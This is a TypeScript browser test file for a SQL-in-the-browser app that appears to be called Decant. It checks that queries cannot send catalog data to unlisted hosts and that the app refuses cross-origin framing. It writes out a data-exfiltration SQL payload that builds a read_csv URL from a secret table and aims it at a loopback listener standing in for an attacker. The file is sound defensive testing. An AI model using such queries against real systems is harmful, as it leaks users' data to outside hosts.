import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openApp, type AppPage } from './app-page';

/**
 * What the tab promises: SQL cannot send catalog data to a host the user never added, and the
 * app does not run inside another site's frame. A loopback listener stands for the attacker's
 * host: it must never be asked anything.
 */
let app: AppPage;
let listener: Server;
let port = 0;
const received: string[] = [];

beforeAll(async () => {
  listener = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    // Anything a page could read back, were it asked.
    res.setHeader('Access-Control-Allow-Origin', '*');
    if (req.url?.startsWith('/frame')) {
      res.setHeader('Content-Type', 'text/html');
      res.end(
        `<!doctype html><iframe id="app" src="${app.url}/" width="800" height="600"></iframe>`,
      );
    } else res.end('v\nleaked\n');
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  port = (listener.address() as { port: number }).port;
  app = await openApp();
}, 120_000);
afterAll(async () => {
  await app?.browser.close();
  await new Promise<void>((r) => listener?.close(() => r()));
});

async function runSql(text: string): Promise<string> {
  const { page, url } = app;
  await page.goto(`${url}/#/catalog`);
  await page.goto(`${url}/#/query`);
  await page.getByTestId('sql-editor').fill(text);
  await page.getByTestId('run-sql').click();
  const error = page.getByTestId('sql-error');
  await error.waitFor({ timeout: 60_000 });
  // The message; the box also quotes the user's own line of SQL below it.
  return error.locator('p').first().innerText();
}

describe('SQL cannot reach the network behind the user’s back', () => {
  it('refuses to read a URL built from catalog data, and sends nothing', async () => {
    const shown = await runSql(
      "CREATE OR REPLACE TABLE secret AS SELECT 'TOPSECRET' AS v;\n" +
        `SET VARIABLE u = (SELECT 'http://127.0.0.1:${port}/exfil?d=' || string_agg(v, ',') FROM secret);\n` +
        "SELECT * FROM read_csv(getvariable('u'))",
    );
    expect(shown).toContain(
      `query: reading "http://127.0.0.1:${port}/exfil" is not allowed: add it as a source first`,
    );
    expect(shown).not.toContain('TOPSECRET');
  });

  it('refuses https URLs that are not sources', async () => {
    const shown = await runSql(
      "SELECT * FROM read_csv('https://example.com/data.csv?X-Amz-Signature=abc')",
    );
    expect(shown).toContain(
      'query: reading "https://example.com/data.csv" is not allowed: add it as a source first',
    );
    expect(shown).not.toContain('X-Amz-Signature');
  });

  it('the listener was asked nothing, and the page asked no other host', () => {
    expect(received).toEqual([]);
    expect(app.foreignRequests).toEqual([]);
  });
});

describe('framing', () => {
  it('refuses to run inside a frame of another origin', async () => {
    const page = await app.browser.newPage();
    try {
      await page.goto(`http://127.0.0.1:${port}/frame`);
      const frame = page.frameLocator('#app');
      await frame.getByTestId('framed').waitFor({ timeout: 30_000 });
      expect(await frame.getByTestId('framed').innerText()).toMatch(
        /^Decant does not run inside another site’s page/,
      );
      expect(await frame.getByTestId('engine-status').count()).toBe(0);
      expect(await frame.locator('nav, main').count()).toBe(0);
    } finally {
      await page.close();
      received.length = 0;
    }
  });
});
